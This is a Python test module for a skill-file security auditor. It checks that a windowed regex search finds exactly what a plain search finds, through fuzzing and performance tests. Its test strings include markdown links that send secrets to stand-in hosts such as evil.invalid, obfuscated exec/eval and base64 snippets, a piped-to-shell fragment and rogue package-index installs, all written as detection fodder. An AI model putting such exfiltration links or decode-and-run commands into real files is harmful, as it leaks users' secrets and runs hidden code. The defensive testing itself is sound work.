"""A long document is searched by a gate in windows around its literals (each literal's line with
the nearest line holding text on either side, merged): the gated search finds exactly what the
plain pattern finds in the whole folded text.  A literal on the last line of a window (its tail)
extends the window to the line after it, where a match starting on that line may run on; before,
it was passed over as inside the window, and SK622's ``[) ](\\n\\n\\n//x`` was missed
(skillsite.audit.text)."""
from __future__ import annotations

import re

import pytest

from regex_steps import seeded_texts, steps_grow_in_proportion
from skillsite.audit import engine
from skillsite.audit.declare import Pattern
from skillsite.audit.engine import audit_document
from skillsite.audit.rules import RULES
from skillsite.audit.text import WINDOWED, make_document

#: Lines of plain text: a long document's start, and what parts its windows.
FILLER = "Plain reference text about deployments and logs.\n" * (WINDOWED // 40)
GAP = "plain words\n" * 3
#: Rules whose matches run on from a literal's line into the next line holding text, and the
#: pieces their documents are made of: the literals (alone and inside a match), a match's start
#: on one line and its rest on the next (after blank lines too), filler between windows.
RULE_PIECES = {
    "SK622": ["![x](https://e.io/p?k=$KEY)", "[a](//e.io/?t={{token}})", "see ](", "](", "[x](", "![i](",
              "//e.io/?k=$T", "<//e.io/${SECRET}>", "  <https://e.io/?q=$Q>", "[ref]:", "[d]: https://e.io/$X",
              "https://e.io/$K", "http://", "[) ](", "//x", GAP],
    "SK631": ["exec(", "eval (", "os.system(", "subprocess.run(", "compile(", "atob(", "base64.b64decode('aGk=')",
              "codecs.decode(s, 'rot13')", "bytes.fromhex(h)", "x = 1", "FromBase64String($s)", "iex (",
              "eval \"$(", "echo aGk= | base64 -d", "| sh", GAP],
    "SK633": ["pip install", "--index-url", "--extra-index-url", "https://pypi.example.invalid/simple",
              "http://x.invalid/p.whl", "npm install", "https://r.invalid/a.tgz", "--registry",
              "npm config set registry", "-i", "x", GAP],
}
#: The pattern of each rule whose matches the fuzz makes run over line breaks (in many of its texts).
SPANNING = {"SK622": 0, "SK631": 3, "SK633": 3}
SEPARATORS = ["\n", " ", "", "\n\n", "\n  \n", "\n\n\n"]
PATTERNS = [(code, index, each) for code in RULE_PIECES for index, each in enumerate(RULES[code].patterns)]


def plain_matches(each: Pattern, text: str, path: str) -> list[tuple[int, int]]:
    """The pattern as declared, run with ``finditer`` over the whole folded text (where the
    document holds the words its rule needs besides)."""
    doc = make_document(path, text)
    if not doc.holds(each.gate.words):
        return []
    return [m.span() for m in re.compile(each.compiled_source, each.flags).finditer(doc.folded)]


def gated_matches(each: Pattern, text: str, path: str) -> list[tuple[int, int]]:
    """The pattern's matches as the audit finds them (the runs a hopeless gate passes over left out)."""
    engine.prepare()
    doc = make_document(path, text)
    return [m.span() for m in each.finditer(doc) if not (each.gate.hopeless and m.start("hopeless") >= 0)]


def test_a_link_on_the_last_line_of_a_window_is_found():
    """The literal ``](`` on line 101 opens a window reaching line 102; the link on line 102,
    whose URL is on line 105, starts in that window's last line."""
    text = f"{FILLER}see ](\n![x](\n\n\n//evil.invalid/p.png?k=$TOKEN)\n{FILLER}"
    found = [(f.code, f.line, f.column) for f in audit_document("references/notes.md", text)]
    assert found == [("SK622", FILLER.count("\n") + 2, 1)]


SHAPES = [
    # a literal in the last line of a window, its match running on into the next line holding text
    ("SK622", "see ](\n![x](\n\n\n//e.io/?k=$T\n"),
    ("SK622", "[) ](\n\n\n//x\n"),
    ("SK622", "[a](//e.io\n  \n[b](\n<//e.io/${SECRET}>\n"),
    # a chain: each line's literal at the tail of the window the line before opened
    ("SK622", "](\n" * 5 + "[x](\n\n//e.io/?k=$T\n"),
    ("SK631", "exec(\neval (\n\n  base64.b64decode('aGk=')\n"),
    ("SK631", "x = exec(\ncompile(\n\natob(s)\n"),
    ("SK633", "pip install\nnpm install\nhttps://r.invalid/a.tgz\n"),
    # several windows, each ending in a literal whose match starts there
    ("SK622", (f"see ](\n![x](\n\n//e.io/?k=$T\n{GAP}") * 4),
    ("SK631", (f"exec(\neval (\n\nbase64.b64decode('aGk=')\n{GAP}") * 4),
]


@pytest.mark.parametrize("code, shape", SHAPES)
@pytest.mark.parametrize("path", ["references/notes.md", "scripts/run.py"])
def test_a_match_from_a_windows_last_line_is_found(code, shape, path):
    text = FILLER + shape + FILLER
    for each in RULES[code].patterns:
        expected = plain_matches(each, text, path)
        assert gated_matches(each, text, path) == expected, (each.source, shape)
    assert any(plain_matches(each, text, path) for each in RULES[code].patterns)


@pytest.mark.parametrize("code, index, each", PATTERNS, ids=[f"{c}-{i}" for c, i, _ in PATTERNS])
def test_the_gated_search_finds_what_the_plain_pattern_finds(code, index, each):
    """A seeded fuzz on long documents, one seed per rule: literals at the ends of windows,
    matches running into the next line or the next window, many windows."""
    spanning = 0
    for number, shape in enumerate(seeded_texts(int(code[2:]), RULE_PIECES[code], SEPARATORS, 150, (10, 60))):
        path = "scripts/run.py" if number % 2 else "references/notes.md"
        text = FILLER + shape + FILLER
        expected = plain_matches(each, text, path)
        assert gated_matches(each, text, path) == expected, (each.source, shape)
        spanning += any("\n" in make_document(path, text).folded[start:end] for start, end in expected)
    if index == SPANNING[code]:
        assert spanning > 20


def _characters_read(text: str) -> int:
    """What finding SK622's windows in ``text`` reads: the length of each line span it works out."""
    engine.prepare()
    doc = make_document("references/notes.md", text)
    lines_around, read = doc._lines_around, [0]

    def counted(at: int, lines: int = 1) -> tuple[int, ...]:
        span = lines_around(at, lines)
        read[0] += span[1] - span[0]
        return span

    doc._lines_around = counted  # type: ignore[method-assign]
    gate = RULES["SK622"].patterns[0].gate
    doc.windows(gate.anchors or frozenset(), False, gate.also, gate.lines)
    return read[0]


@pytest.mark.parametrize("unit", ["[x](\n", "](" * 200 + "\n", "](\n\n\n", "[a](\n  \n//e.io\n"])
def test_windows_read_a_document_of_literals_in_proportion_to_its_size(unit):
    steps_grow_in_proportion(_characters_read, lambda n: FILLER + unit * n, 2000, unit)


@pytest.mark.parametrize("line", ["](" * 20000, "x](" * 20000 + "\n"])
def test_a_last_line_of_literals_is_read_once(line):
    """A long line of literals with no line after it: each literal's span ends at the end of the
    text, as the window does; none after the first is worked out again."""
    steps_grow_in_proportion(_characters_read, lambda n: FILLER + line[:n], 10000, line[:10])
